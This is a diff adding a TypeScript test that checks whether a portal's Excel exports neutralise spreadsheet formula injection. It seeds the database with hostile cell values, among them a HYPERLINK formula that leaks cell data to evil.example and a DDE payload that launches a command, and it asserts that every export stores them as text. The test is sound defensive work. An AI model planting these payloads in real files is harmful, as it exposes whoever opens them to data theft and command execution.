@@ -1,0 +1,124 @@
+import type { Endpoint } from '@platform/core';
+import { startTestHost, type TestHost } from '@platform/testing';
+import { type BankIdDesk, startBankIdDesk } from '@plugins/id-control/testing';
+import { importEndpoints } from '@plugins/imports/contract';
+import { carryOut } from '@plugins/imports/testing';
+import { demoOrganisations } from '@plugins/organisations/testing';
+import { serviceRequestEndpoints } from '@plugins/residents/contract';
+import { Client } from 'pg';
+import { afterAll, beforeAll, expect, it } from 'vitest';
+import * as XLSX from 'xlsx';
+import { serverPlugins } from './plugins.ts';
+import { makeRows } from './walk/prepare.ts';
+
+/** What a program for sheets computes, or might. */
+const HOSTILE = [
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(A1:A9)',
+  '\t=1+1',
+  '\r=1+1',
+  '=HYPERLINK("https://evil.example?"&A1,"x")',
+  "=cmd|' /C calc'!A0",
+];
+/** What people write into the lists that are exported, by its table. */
+const WRITTEN: Readonly<Record<string, readonly string[]>> = {
+  organisations_organisation: [
+    'name',
+    'organisation_number',
+    'address',
+    'postal_code',
+    'city',
+    'contact_person',
+    'reference',
+    'phone',
+    'email',
+  ],
+  residents_apartment: ['number', 'address', 'additional_info'],
+  residents_service_request_line: ['number', 'address', 'comment', 'answered_by'],
+  accounts_user: ['first_name', 'last_name'],
+  keys_key: ['marking', 'name', 'manufacturer', 'id_number', 'note', 'owner'],
+  keys_lock_system: ['name'],
+  keys_key_ring: ['name'],
+  keys_repository: ['name'],
+};
+const ADMIN = 'admin@demo.example';
+
+let host: TestHost;
+let desk: BankIdDesk;
+let owner: Client;
+let importId: string;
+beforeAll(async () => {
+  desk = await startBankIdDesk();
+  host = await startTestHost({ plugins: serverPlugins, settings: desk.settings });
+  owner = new Client({ connectionString: host.databaseUrl });
+  await owner.connect();
+  await makeRows(host, { admin: ADMIN, partner: 'partner@demo.example', resident: 'resident@demo.example' });
+  importId = await importHostile();
+  for (const [table, columns] of Object.entries(WRITTEN)) await overwrite(table, columns);
+});
+afterAll(async () => {
+  await owner?.end();
+  await host?.stop();
+  await desk?.stop();
+});
+
+/** Keys whose type is none, so that each row comes back to its sender. */
+async function importHostile(): Promise<string> {
+  const rows = HOSTILE.map((text, at) => `"${at}${text.replaceAll('"', '""')}";"${text.replaceAll('"', '""')}"`);
+  const file = new File([`Märkning;Typ\n${rows.join('\n')}\n`], 'nycklar.csv', { type: 'text/csv' });
+  const { body } = await host.call(importEndpoints.open, { body: { kind: 'keys', lockSystem: 'Passersystem' }, file }, { as: ADMIN });
+  await carryOut(host.runtime, { importId: body.id, organisationId: demoOrganisations.bjorken });
+  return body.id;
+}
+
+/** Puts one of them before each text, as the owner of the table: no contract may stand in the way. */
+async function overwrite(table: string, columns: readonly string[]): Promise<void> {
+  const changes = columns.map((column, at) => `${column} = ($1::text[])[1 + (row + ${at}) % ${HOSTILE.length}] || ' ' || row || ${at}`);
+  await owner.query(
+    `update ${table} as t set ${changes.join(', ')} from (select id, (row_number() over (order by id))::int as row from ${table}) as numbered
+     where t.id = numbered.id`,
+    [HOSTILE],
+  );
+}
+
+const workbooks: readonly Endpoint[] = serverPlugins
+  .flatMap(({ routes = [] }) => routes.flatMap(({ contract }) => Object.values(contract)))
+  .filter(({ path }) => path.endsWith('.xlsx'));
+/** The empty workbook holds nothing that anybody wrote. */
+const withWords = workbooks.filter(({ id }) => id !== 'imports.template');
+
+/** Which one is asked for, where the path names one. */
+const PARAMS: Readonly<Record<string, () => Promise<string>>> = {
+  'imports.failed': async () => importId,
+  'residents.exportRequest': async () => {
+    const { items } = (await host.call(serviceRequestEndpoints.listRequests, { query: {} }, { as: ADMIN })).body;
+    return items[0]?.id ?? '';
+  },
+};
+const cellsOf = (raw: Buffer): readonly XLSX.CellObject[] =>
+  Object.values(XLSX.read(raw, { type: 'buffer', cellFormula: true, cellNF: true }).Sheets).flatMap((sheet) =>
+    Object.entries(sheet).flatMap(([place, cell]) => (place.startsWith('!') ? [] : [cell as XLSX.CellObject])),
+  );
+
+it.each(withWords.map((endpoint) => [endpoint.id, endpoint] as const))(
+  '%s holds what people wrote as text, whatever it begins with',
+  async (id, endpoint) => {
+    const params = { id: (await PARAMS[id]?.()) ?? '' };
+    const { status, raw } = await host.call(endpoint, { params } as object, { as: ADMIN });
+    expect(status).toBe(200);
+    const cells = cellsOf(raw);
+    expect(cells.filter(({ f }) => f !== undefined)).toEqual([]);
+    const hostile = cells.filter(({ v }) => /^[=+\-@\t\r]/.test(String(v)));
+    // one row has all its columns, and each column another beginning
+    expect(hostile.length).toBeGreaterThan(3);
+    expect(hostile.filter(({ t, z }) => t !== 's' || z !== '@')).toEqual([]);
+  },
+);
+
+it('and those are all the workbooks that the portal gives', () => {
+  expect(workbooks.map(({ id }) => id)).toContain('organisations.exportOrganisations');
+  expect(new Set(workbooks.map(({ reply }) => reply))).toEqual(new Set(['stream']));
+  expect(workbooks.filter(({ path, id }) => path.includes('{id}') && !PARAMS[id])).toEqual([]);
+});
